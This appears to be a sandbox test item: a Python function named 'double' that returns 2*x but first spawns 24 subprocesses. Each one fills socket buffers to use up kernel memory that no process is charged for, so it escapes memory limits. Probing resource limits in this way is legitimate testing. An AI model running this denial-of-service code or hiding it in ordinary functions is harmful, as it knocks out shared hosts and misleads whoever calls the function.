"""Takes all memory in what waits in sockets, which counts for no process."""

DUE = {"double": "memory or error"}

# %% double
import os
import socket
import subprocess
import sys
import time

FILL = """
import socket, time
hoard = []
try:
    while True:
        hoard += socket.socketpair()
        for end in hoard[-2:]:
            end.setblocking(False)
            try:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            except OSError:
                pass
            try:
                while end.send(bytes(4096)):
                    pass
            except BlockingIOError:
                pass
except OSError:
    time.sleep(3600)
"""

def double(x):
    for _ in range(24):
        subprocess.Popen([sys.executable, "-ISc", FILL])
    time.sleep(1.6)
    return 2 * x
